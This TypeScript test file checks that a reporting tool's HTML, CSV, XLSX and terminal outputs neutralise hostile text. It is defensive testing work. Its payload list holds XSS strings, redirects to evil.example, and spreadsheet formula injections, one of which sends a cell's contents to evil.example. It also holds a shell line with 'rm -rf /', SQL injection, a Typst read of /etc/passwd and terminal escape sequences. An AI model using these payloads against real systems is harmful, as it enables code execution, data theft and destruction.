import { strFromU8, unzipSync } from "fflate";
import { parseHTML } from "linkedom";
import { SaxesParser } from "saxes";
import { describe, expect, it, vi } from "vitest";
import { briefHtml } from "../../reports/html.ts";
import { requestsCsv, requestsPage, type Requester } from "../../reports/requests/page.ts";
import { briefXlsx } from "../../reports/xlsx.ts";
import type { BriefFigures } from "../../reports/figures.ts";
import { terminalOutput } from "../../src/cli/output.ts";
import { csvText } from "../../src/csv.ts";
import { traceNote } from "../../reports/requests/note.ts";
import { plainText } from "../../src/html.ts";
import type { RequestOnRecord } from "../../src/data/reads/requests.ts";

// Attacks by what foreign files may say in names, topics and comments: it is shown as it stands, and nothing obeys it.

const payloads: [what: string, text: string][] = [
  ["a script", "<script>alert(1)</script>"],
  ["an image that fails", "<img src=x onerror=alert(1)>"],
  ["a drawing that runs", '<svg/onload=alert(1)><animate onbegin="alert(1)">'],
  ["a frame", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
  ["a style", "</style><style>*{display:none}</style>"],
  ["another base", '<base href="https://evil.example/">'],
  ["a redirection", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ["the end of an attribute", `"><b onmouseover='alert(1)' x="`],
  ["the end of an attribute in other quotes", "' autofocus onfocus=alert(1) x='"],
  ["the end of a comment", "--><script>alert(1)</script><!--"],
  ["the end of CDATA", "]]><script>alert(1)</script>"],
  ["the end of its elements", "</td></tr></table></dl></article></main></body></html>"],
  ["the end of a title", "</title><script>alert(1)</script>"],
  ["entities", "&lt;script&gt; &#60;script&#62; &amp; &nbsp &copy"],
  ["a template's place", "${alert(1)} $${x} ${`${1}`}"],
  ["another template's place", "{{constructor.constructor('alert(1)')()}} {% raw %} <%= 1 %>"],
  ["code in backticks", "`alert(1)` ```js\nalert(1)\n```"],
  ["Markdown", "# head\n\n- [x](javascript:alert(1)) ![y](https://evil.example/p.png) **b** | c |"],
  ["front matter", "---\ntitle: x\nscript: y\n---\n"],
  ["a link that runs", "javascript:alert(document.domain)"],
  ["Typst", '#eval("1") #read("/etc/passwd") #import "x": * #panic()'],
  ["a formula", '=HYPERLINK("https://evil.example?"&A1,"click")'],
  ["a command in a formula", "=cmd|' /C calc'!A0"],
  ["a formula that begins with plus", "+SUM(1,1)*cmd|' /C calc'!A0"],
  ["a formula that begins with minus", "-2+3+cmd|' /C calc'!A0"],
  ["a formula that begins with at", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["a formula after a tab", "\t=1+1"],
  ["a formula after a return", "\r=1+1"],
  ["a formula behind a quote", '"=1+1","=2+2"'],
  ["a formula on a second line", "x\r\n=1+1,=2+2"],
  ["shell words", "; rm -rf / $(touch x) `id` | tee & \\"],
  ["SQL", "'; drop table loads; -- \" union select 1 /*"],
  ["a terminal's colors and title", "\u001b[31mred\u001b]0;title\u0007\u009b2J"],
  ["turned directions", "\u202Egnp.exe\u2066\u2069"],
  ["control characters", "a\u0000b\u0001c\u0008d\u007fe"],
  ["code points that are no characters", "a\uFFFEb\uFFFF\uD83D"],
  ["line ends of Unicode", "a\u2028b\u2029c\u0085d"],
  ["a word of 10,000 letters", "x".repeat(10_000)],
]; // prettier-ignore

/** A brief that says a text wherever a text can stand. */
const briefSaying = (text: string): BriefFigures => ({
  schema: 2, audience: "office", is_demonstration: false, is_simulated: false, edition: text, band: text,
  publisher: text, corrections: text, method_version: text, inputs_sha256: text, state: "KS", name: text,
  month: "2024-03", period: text, data_through: text, title: text, headline: text, paragraphs: [text, text],
  leading: [{ label: text, value: text, note: text }],
  charts: [],
  tables: [{
    id: "topics", title: text,
    columns: [{ key: "topic", head: "Topic", kind: "text" }, { key: "complaints", head: "Number", kind: "count" }],
    rows: [[text, 12], [text, text]],
  }],
  limits: [text],
  glossary: [{ term: text, meaning: text }],
  content_sha256: text,
}); // prettier-ignore

const requestSaying = (text: string): RequestOnRecord =>
  ({
    request_id: text, provider_id: text, name: text, frn: text, filing_number: text, rmd_status: text, contact_email: text,
    rmd_contact_name: text, rmd_contact_title: text, rmd_contact_address: text, rmd_contact_reach: text,
    time_zone: text, asked_for: text, downstream_id: text, downstream_name: text, parent_id: text,
    examples: [{ provider_id: text, call_id: text, at: text, corrected_at: text, calling_number: text, called_npa_nxx: text, attestation: text, origid: text }],
    calls: 3, calls_recent: 1, campaigns: 1, value: 1, status: text, made_at: text, sent_at: text, due_at: text,
    answered_at: text, response: text, upstream_provider_id: text, customer_name: text,
  }); // prettier-ignore

const requesterSaying = (text: string): Requester => ({
  office: text, official: text, title: text, authority: text, entitled_as: "commission", reply_to: text, matter: text,
}); // prettier-ignore

/** Elements and attributes of a page, and how often the marks stand in it that could begin another. */
function structure(page: string) {
  const elements = [...parseHTML(page).document.querySelectorAll("*")].map((element) =>
    [element.localName, ...[...element.attributes].map(({ name }) => name)].join(" "),
  );
  const marks = ["<", ">", '"', "'", "`", "$", "{", "}"].map((mark) => page.split(mark).length);
  return { elements, marks };
}

const pages: ((text: string) => string)[] = [
  (text) => briefHtml(briefSaying(text), new Map()),
  (text) => requestsPage([requestSaying(text)], requesterSaying(text), true),
];

/** The cells of a CSV text by the rules of RFC 4180. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, bare, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** What a spreadsheet would run. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);
const shown = (text: string) => (isFormula(text) ? `'${text}` : text);

/** Text of the cells of every sheet, from XML that is well-formed. */
function sheetTexts(xlsx: Uint8Array): string[] {
  const texts: string[] = [];
  for (const [name, bytes] of Object.entries(unzipSync(xlsx))) {
    if (!name.endsWith(".xml")) continue;
    const parser = new SaxesParser();
    let text: string | undefined;
    parser.on("error", (error) => {
      throw new Error(`${name}: ${error.message}`);
    });
    parser.on("opentag", (tag) => {
      expect(tag.name, "no cell is a formula").not.toBe("f");
      if (tag.name === "t") text = "";
    });
    parser.on("text", (part) => (text = text === undefined ? undefined : text + part));
    parser.on("closetag", (tag) => {
      if (tag.name === "t") texts.push(text ?? "");
      if (tag.name === "t") text = undefined;
    });
    parser.write(strFromU8(bytes)).close();
  }
  return texts;
}

const obeyed = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/;
const output = terminalOutput(true);

/** What XML can hold of a text. */
const written = (text: string) =>
  shown(plainText(text)).replaceAll(/[\u0080-\u0084\u0086-\u009F\uFFFD]/gu, "");

describe.each(payloads)("%s", (_, text) => {
  it("adds nothing to a page, and is read there", () => {
    for (const make of pages) {
      const page = make(text);
      expect(structure(page)).toEqual(structure(make("x")));
      expect(page).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F\u202A-\u202E\u2066-\u2069]/);
      const body = parseHTML(page).document.body.textContent;
      for (const word of text.match(/[A-Za-z]{3,}/g) ?? []) expect(body).toContain(word);
    }
  });

  it("is one cell of a table, and no formula", async () => {
    const rows = [["a", text], [text, "b"]]; // prettier-ignore
    expect(cellsOf(csvText(["x", "y"], rows))).toEqual([
      ["x", "y"],
      ["a", shown(text)],
      [shown(text), "b"],
    ]);
    const [head, row, ...more] = cellsOf(requestsCsv([requestSaying(text)]));
    expect(more).toEqual([]);
    expect(row).toHaveLength(head!.length);
    expect(row!.filter(isFormula)).toEqual([]);
    expect(row!.filter((cell) => cell === shown(text))).toHaveLength(17);
    // A leading figure's value and note are one cell: it begins with the program's own number.
    const sheet = async (say: string) =>
      sheetTexts(await briefXlsx({ ...briefSaying(say), leading: [] }));
    const harmless = await sheet("x");
    expect(harmless.filter((cell) => cell === "x").length).toBeGreaterThan(0);
    expect(await sheet(text)).toEqual(
      harmless.map((cell) => cell.replaceAll(/\bx\b/g, () => written(text))),
    );
  });

  it("gives a terminal nothing to obey", () => {
    const write = vi.spyOn(process.stdout, "write").mockReturnValue(true);
    output.print(text);
    const printed = write.mock.calls.map(([part]) => String(part)).join("");
    write.mockRestore();
    expect(printed).not.toMatch(obeyed);
    expect(printed).toHaveLength(text.length + 1);
  });
});

it.each(["12", "-12", "+1.5", "0"])("the number %s stays a number in a CSV", (text) => {
  expect(csvText(["n"], [[text]])).toBe(`n\r\n${text}\r\n`);
});

it("an id with line breaks forges no line of a trace's note", () => {
  const note = traceNote({
    title: "+13165550123",
    trace: { calls: 1, ends: [], examples: [] },
    manual: [
      {
        traceback_id: "T1\nManual traceback T2: innocent",
        path: ["P1\r\nP2", "P3\u2028P4"],
        stop_reason: "originator",
        findings: [],
      },
    ],
    answers: [],
    requests: [],
  });
  expect(note.split(/[\r\n\u2028]/).filter((line) => line.startsWith("Manual"))).toHaveLength(1);
});
